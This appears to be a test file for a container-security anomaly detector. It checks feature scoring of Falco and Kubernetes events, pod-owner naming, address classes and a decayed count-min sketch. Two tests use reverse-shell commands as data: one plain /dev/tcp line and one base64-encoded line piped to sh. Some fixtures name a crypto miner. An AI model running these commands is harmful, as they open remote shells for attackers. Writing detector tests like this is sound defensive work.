import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyAddress, extractPeer, type Peer } from '../../src/gate/address.ts';
import { FEATURE_COUNT, FEATURE_NAMES, FEATURE_SCHEMA, Featurizer } from '../../src/gate/featurizer.ts';
import { ownerKey, podOwnerName } from '../../src/gate/owner.ts';
import { DecayedCountMinSketch } from '../../src/gate/sketch.ts';
import { shannonEntropy } from '../../src/gate/text-stats.ts';
import { T0, makeEvent, stationaryStream } from '../support/gate-events.ts';

function peerOf(fields: Record<string, unknown>): Peer | undefined {
  const peer: Peer = { cls: 'unknown', port: -1, inbound: false };
  return extractPeer(fields, peer) ? peer : undefined;
}

const idx = (name: (typeof FEATURE_NAMES)[number]): number => FEATURE_NAMES.indexOf(name);

test('the feature schema is stable: names, order and version are what models were trained on', () => {
  assert.equal(FEATURE_SCHEMA.schemaVersion, 'falconer.features/4');
  assert.deepEqual(
    [...FEATURE_SCHEMA.names],
    [
      'rule_rarity',
      'process_rarity',
      'lineage_rarity',
      'image_process_rarity',
      'dest_port_rarity',
      'dest_class_rarity',
      'path_prefix_rarity',
      'user_rarity',
      'priority_severity',
      'off_hours',
      'cmdline_length',
      'cmdline_entropy',
      'owner_rule_novelty',
      'owner_process_novelty',
      'owner_lineage_novelty',
      'owner_dest_novelty',
      'owner_recent_repeat',
      'command_rarity',
      'owner_command_novelty',
      'rarity_max',
      'novelty_max',
    ],
  );
  assert.equal(FEATURE_COUNT, FEATURE_SCHEMA.names.length);
  assert.ok(Object.isFrozen(FEATURE_SCHEMA) && Object.isFrozen(FEATURE_SCHEMA.names));
});

test('rarity falls as the same behaviour repeats (score-then-learn: the first sighting is the rarest)', () => {
  const f = new Featurizer();
  for (const ev of stationaryStream(1, 500)) f.featurize(ev);
  const values: number[] = [];
  for (let i = 0; i < 30; i++) {
    const out = f.featurize(
      makeEvent({ rule: 'Drop and execute new binary in container', proc: 'xmrig', timeMs: T0 + 20_000 + i }),
    );
    values.push(out[idx('rule_rarity')]!);
  }
  // First sighting: the rule had never been counted, so rarity = ln(total + 1).
  assert.ok(Math.abs(values[0]! - Math.log(501)) < 1e-3, `first rarity ${values[0]}`);
  for (let i = 1; i < values.length; i++)
    assert.ok(values[i]! < values[i - 1]!, `rarity must fall: ${values.join(', ')}`);
  assert.ok(values.at(-1)! < values[0]! - 2.5);
});

test('novelty is per workload owner: replicas share a baseline, another owner does not', () => {
  const f = new Featurizer();
  const t = (i: number) => T0 + i * 100;
  for (let i = 0; i < 300; i++) {
    f.featurize(makeEvent({ pod: 'web-7d4b9c8f6d-x2k9p', proc: 'nginx', timeMs: t(i) }));
    f.featurize(
      makeEvent({
        pod: 'cache-5b6c7d8f9-bcdfg',
        proc: 'redis-server',
        pname: 'redis-server',
        image: 'redis',
        timeMs: t(i),
      }),
    );
  }
  const procNovelty = idx('owner_process_novelty');
  const procRarity = idx('process_rarity');
  // A new replica of the web Deployment running nginx: nothing new for its owner.
  const replica = f.featurize(
    makeEvent({ pod: 'web-7d4b9c8f6d-q8r7s', proc: 'nginx', timeMs: t(301) }),
    new Float64Array(FEATURE_COUNT),
  );
  assert.ok(replica[procNovelty]! < 1, `replica novelty ${replica[procNovelty]}`);
  // nginx inside the cache owner: common globally, never seen for that owner.
  const foreign = f.featurize(
    makeEvent({ pod: 'cache-5b6c7d8f9-hjklm', proc: 'nginx', image: 'redis', timeMs: t(302) }),
    new Float64Array(FEATURE_COUNT),
  );
  assert.ok(foreign[procNovelty]! > 5, `owner novelty ${foreign[procNovelty]}`);
  assert.ok(foreign[procRarity]! < 1.5, `global rarity ${foreign[procRarity]}`);
});

test('the command-line shape separates a routine shell from a payload of the same program', () => {
  const f = new Featurizer();
  const owner = { pod: 'postgres-0', namespace: 'data', proc: 'sh', pname: 'postgres', image: 'postgres' };
  for (let i = 0; i < 300; i++) {
    f.featurize(
      makeEvent({
        ...owner,
        cmdline: `sh -c wal-g wal-push pg_wal/0000000100002B35000000${i % 90}`,
        timeMs: T0 + i * 1000,
      }),
    );
  }
  const routine = f.featurize(
    makeEvent({
      ...owner,
      cmdline: 'sh -c wal-g wal-push pg_wal/000000010000FFFF00000001',
      timeMs: T0 + 400_000,
    }),
    new Float64Array(FEATURE_COUNT),
  );
  const payload = f.featurize(
    makeEvent({ ...owner, cmdline: "sh -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'", timeMs: T0 + 400_001 }),
    new Float64Array(FEATURE_COUNT),
  );
  assert.ok(routine[idx('owner_command_novelty')]! < 0.5, `routine ${routine[idx('owner_command_novelty')]}`);
  assert.ok(payload[idx('owner_command_novelty')]! > 5, `payload ${payload[idx('owner_command_novelty')]}`);
  assert.equal(
    payload[idx('owner_process_novelty')],
    routine[idx('owner_process_novelty')],
    'same program, same lineage',
  );
  assert.equal(payload[idx('novelty_max')], payload[idx('owner_command_novelty')]);
  assert.ok(payload[idx('rarity_max')]! >= payload[idx('command_rarity')]!);
});

test('short-term repetition rises inside a burst and fades within minutes', () => {
  const f = new Featurizer({ recentHalfLifeMs: 60_000 });
  const r = idx('owner_recent_repeat');
  const burst = (i: number) =>
    makeEvent({ rule: 'K8s Secret Get Successfully', proc: 'kcm', timeMs: T0 + i * 100 });
  assert.equal(f.featurize(burst(0))[r], 0, 'the first of a burst is not a repeat');
  let last = 0;
  for (let i = 1; i < 50; i++) last = f.featurize(burst(i))[r]!;
  assert.ok(last > 5, `inside the burst ${last}`);
  const later = f.featurize(
    makeEvent({ rule: 'K8s Secret Get Successfully', proc: 'kcm', timeMs: T0 + 30 * 60_000 }),
  )[r]!;
  assert.ok(later < 0.01, `30 half-lives later ${later}`);
});

test('a brand-new owner has no baseline to be novel against: its novelty is 0, global rarity still speaks', () => {
  const f = new Featurizer();
  for (const ev of stationaryStream(2, 200)) f.featurize(ev);
  const out = f.featurize(
    makeEvent({
      namespace: 'new',
      pod: 'fresh-6c7d8f9b5-bcdfg',
      proc: 'weird',
      pname: 'weird',
      timeMs: T0 + 10_000,
    }),
  );
  assert.equal(out[idx('owner_process_novelty')], 0);
  assert.ok(out[idx('process_rarity')]! > 5);
});

test('memory stays bounded under a spray of 1e6 unique process names, command lines and pods', () => {
  const f = new Featurizer();
  const bound = f.maxStateBytes;
  assert.equal(bound, 8_962_120, 'the bound documented in docs/features.md');
  const before = f.stateBytes();
  let maxSeen = 0;
  const fields: Record<string, string> = {};
  const ev = makeEvent();
  for (let i = 0; i < 1_000_000; i++) {
    const name = `spray-${i.toString(36)}`;
    fields['proc.name'] = name;
    fields['proc.pname'] = name;
    fields['proc.cmdline'] = `${name} --unique`;
    const pod = `p${i % 20000}-6c7d8f9b5-bcdfg`;
    f.featurize({
      ...ev,
      timeMs: T0 + i,
      fields: { ...ev.fields, ...fields },
      workload: { ...ev.workload, key: `pod:x/${pod}`, pod },
    });
    if ((i & 0xffff) === 0) maxSeen = Math.max(maxSeen, f.stateBytes());
  }
  maxSeen = Math.max(maxSeen, f.stateBytes());
  assert.ok(maxSeen <= bound, `state ${maxSeen} exceeds bound ${bound}`);
  assert.ok(f.ownerCacheEntries <= f.options.ownerCacheSize);
  assert.ok(before > 0 && maxSeen >= before);
  // After the spray a never-seen name is still rarer than the common ones were.
  const out = f.featurize(makeEvent({ proc: 'never-seen-before', timeMs: T0 + 1_000_001 }));
  assert.ok(out[idx('process_rarity')]! > 3, `rarity after spray ${out[idx('process_rarity')]}`);
});

test('every feature is finite for sparse, odd and k8s_audit events', () => {
  const f = new Featurizer();
  const sparse = makeEvent({ fields: {} });
  const bare = {
    ...sparse,
    timeMs: Number.NaN,
    fields: {},
    workload: { key: 'host:h', kind: 'host' as const, host: 'h' },
  };
  const audit = {
    ...sparse,
    source: 'k8s_audit',
    fields: {
      'ka.verb': 'create',
      'ka.target.resource': 'pods',
      'ka.target.subresource': 'exec',
      'ka.user.name': 'system:serviceaccount:ci:deployer',
      'ka.sourceips': ['10.0.0.1'],
    },
  };
  const odd = makeEvent({
    cmdline: 'x'.repeat(100_000),
    fields: { 'fd.name': '10.0.0.5:4321->[fe80::1]:x', 'fd.rport': 'abc', 'user.name': '<NA>' },
  });
  for (const ev of [sparse, bare, audit, odd, sparse]) {
    const out = f.featurize(ev);
    assert.equal(out.length, FEATURE_COUNT);
    for (let i = 0; i < out.length; i++)
      assert.ok(Number.isFinite(out[i]!), `${FEATURE_NAMES[i]} = ${out[i]}`);
  }
  const a = f.featurize(audit, new Float64Array(FEATURE_COUNT));
  assert.ok(a[idx('process_rarity')]! > 0, 'the API action stands in for the process');
  assert.equal(a[idx('cmdline_length')], 0);
});

test('learn=false reads without counting, and decay restores rarity after many half-lives', () => {
  const f = new Featurizer({ halfLifeMs: 60_000 });
  for (let i = 0; i < 200; i++) f.featurize(makeEvent({ rule: 'A', timeMs: T0 + i * 10 }));
  const r = idx('rule_rarity');
  const peek1 = f.featurize(
    makeEvent({ rule: 'A', timeMs: T0 + 3000 }),
    new Float64Array(FEATURE_COUNT),
    false,
  )[r]!;
  const peek2 = f.featurize(
    makeEvent({ rule: 'A', timeMs: T0 + 3000 }),
    new Float64Array(FEATURE_COUNT),
    false,
  )[r]!;
  assert.equal(peek1, peek2);
  // 60 half-lives later, only rule B has been seen recently: A is rare again.
  for (let i = 0; i < 200; i++) f.featurize(makeEvent({ rule: 'B', timeMs: T0 + 3_600_000 + i * 10 }));
  const later = f.featurize(makeEvent({ rule: 'A', timeMs: T0 + 3_602_001 }))[r]!;
  assert.ok(later > peek1 + 3, `rarity after decay ${later} vs ${peek1}`);
});

test('off-hours follows office hours, weekdays and the UTC offset; entropy tells payloads from plain commands', () => {
  const off = (iso: string, f = new Featurizer()) =>
    f.featurize(makeEvent({ timeMs: Date.parse(iso) }), new Float64Array(FEATURE_COUNT))[idx('off_hours')];
  assert.equal(off('2025-03-10T12:00:00Z'), 0, 'Monday noon');
  assert.equal(off('2025-03-10T07:59:59Z'), 1, 'Monday before 8');
  assert.equal(off('2025-03-10T18:00:00Z'), 1, 'Monday 18:00');
  assert.equal(off('2025-03-08T12:00:00Z'), 1, 'Saturday noon');
  assert.equal(off('2025-03-10T05:30:00Z', new Featurizer({ utcOffsetMinutes: 180 })), 0, '08:30 at UTC+3');
  assert.throws(() => new Featurizer({ officeHours: { startHour: 18, endHour: 8 } }), /office hours/);
  const plain = shannonEntropy('nginx -g daemon off;');
  const payload = shannonEntropy(
    'echo L2Jpbi9iYXNoIC1pID4mIC9kZXYvdGNwLzEwLjAuMC4xLzQ0NDQgMD4mMQ== | base64 -d | sh',
  );
  assert.ok(payload > plain + 0.5, `${payload} vs ${plain}`);
  assert.equal(shannonEntropy(''), 0);
  assert.equal(shannonEntropy('aaaa'), 0);
  assert.ok(Math.abs(shannonEntropy('abcd') - 2) < 1e-12);
});

test('pod owners strip generated suffixes but keep real names', () => {
  assert.equal(podOwnerName('web-7d4b9c8f6d-x2k9p'), 'web');
  assert.equal(podOwnerName('payments-api-5f6d7c8b9-bcdfg'), 'payments-api');
  assert.equal(podOwnerName('postgres-0'), 'postgres');
  assert.equal(podOwnerName('fluent-bit-z9x8w'), 'fluent-bit');
  assert.equal(podOwnerName('backup-28934560-q2w4r'), 'backup');
  assert.equal(podOwnerName('nginx'), 'nginx');
  assert.equal(podOwnerName('web-server'), 'web-server');
  const w = {
    key: 'pod:c/ns/web-7d4b9c8f6d-x2k9p',
    kind: 'pod' as const,
    host: 'h',
    namespace: 'ns',
    pod: 'web-7d4b9c8f6d-x2k9p',
    container: 'app',
  };
  assert.equal(ownerKey(w), 'pod:ns/web/app');
  assert.equal(ownerKey({ key: 'host:h', kind: 'host', host: 'h' }), 'host:h');
});

test('address classes and peers from Falco fields', () => {
  assert.equal(classifyAddress('127.0.0.1'), 'loopback');
  assert.equal(classifyAddress('10.1.2.3'), 'private');
  assert.equal(classifyAddress('172.20.0.1'), 'private');
  assert.equal(classifyAddress('172.32.0.1'), 'public');
  assert.equal(classifyAddress('192.168.1.1'), 'private');
  assert.equal(classifyAddress('169.254.169.254'), 'metadata');
  assert.equal(classifyAddress('169.254.1.1'), 'link-local');
  assert.equal(classifyAddress('8.8.8.8'), 'public');
  assert.equal(classifyAddress('::1'), 'loopback');
  assert.equal(classifyAddress('fd00:ec2::254'), 'metadata');
  assert.equal(classifyAddress('fe80::1'), 'link-local');
  assert.equal(classifyAddress('2001:db8::1'), 'public');
  assert.equal(classifyAddress('::ffff:10.0.0.1'), 'private');
  assert.equal(classifyAddress('example.com'), 'unknown');
  assert.equal(classifyAddress('256.1.1.1'), 'unknown');
  assert.deepEqual(peerOf({ 'fd.rip': '1.2.3.4', 'fd.rport': 4444 }), {
    cls: 'public',
    port: 4444,
    inbound: false,
  });
  assert.deepEqual(peerOf({ 'fd.name': '10.0.0.5:43210->169.254.169.254:80', 'fd.lport': 43210 }), {
    cls: 'metadata',
    port: 80,
    inbound: false,
  });
  assert.deepEqual(peerOf({ 'fd.sip': '10.0.0.9', 'fd.sport': '5432' }), {
    cls: 'private',
    port: 5432,
    inbound: false,
  });
  // Inbound: the local end is the server; the remote is the client, whose ephemeral port is not the service.
  assert.deepEqual(
    peerOf({ 'fd.name': '203.0.113.9:51000->10.0.0.5:443', 'fd.lport': 443, 'fd.rport': 51000 }),
    {
      cls: 'public',
      port: 443,
      inbound: true,
    },
  );
  assert.equal(peerOf({ 'fd.name': '/etc/shadow' }), undefined);
});

test('the decayed sketch counts, halves per half-life, and survives rescaling', () => {
  const s = new DecayedCountMinSketch({ width: 1024, depth: 4, halfLifeMs: 1000, totals: 1 });
  let w = s.advance(0);
  for (let i = 0; i < 10; i++) s.add(42, w);
  s.addTotal(0, w);
  assert.ok(Math.abs(s.count(42) - 10) < 1e-9);
  assert.equal(s.count(43), 0);
  assert.equal(s.advance(1000), 2, 'an event one half-life later weighs twice as much');
  assert.ok(Math.abs(s.count(42) - 5) < 1e-9);
  assert.ok(Math.abs(s.total(0) - 0.5) < 1e-9);
  // 100 half-lives later (past the rescale point) counts are still exact relative to now.
  w = s.advance(100_000);
  s.add(7, w);
  s.add(7, w);
  assert.ok(Math.abs(s.count(7) - 2) < 1e-9);
  assert.ok(s.count(42) < 1e-20);
  // Out-of-order events weigh less, never more.
  const old = s.advance(99_000);
  assert.ok(Math.abs(old - 0.5 * w) < 1e-9 * w);
  assert.throws(
    () => new DecayedCountMinSketch({ width: 1000, depth: 4, halfLifeMs: 1, totals: 0 }),
    /power of two/,
  );
});

test('containers of one pod are distinct owners: a sidecar is not judged by the main container', () => {
  const f = new Featurizer();
  const t = (i: number) => T0 + i * 100;
  const proxy = { container: 'proxy', image: 'docker.io/istio/proxyv2' };
  for (let i = 0; i < 300; i++) {
    f.featurize(makeEvent({ container: 'app', proc: 'nginx', timeMs: t(i) }));
    f.featurize(makeEvent({ ...proxy, proc: 'pilot-agent', pname: 'pilot-agent', timeMs: t(i) }));
  }
  const procNovelty = idx('owner_process_novelty');
  const main = f.featurize(
    makeEvent({ container: 'app', proc: 'nginx', timeMs: t(301) }),
    new Float64Array(FEATURE_COUNT),
  );
  // Same pod (same workload key), another container and image: nginx is new to *its* owner.
  const sidecar = f.featurize(
    makeEvent({ ...proxy, proc: 'nginx', timeMs: t(302) }),
    new Float64Array(FEATURE_COUNT),
  );
  assert.ok(main[procNovelty]! < 1, `main container novelty ${main[procNovelty]}`);
  assert.ok(sidecar[procNovelty]! > 5, `sidecar novelty ${sidecar[procNovelty]}`);
});
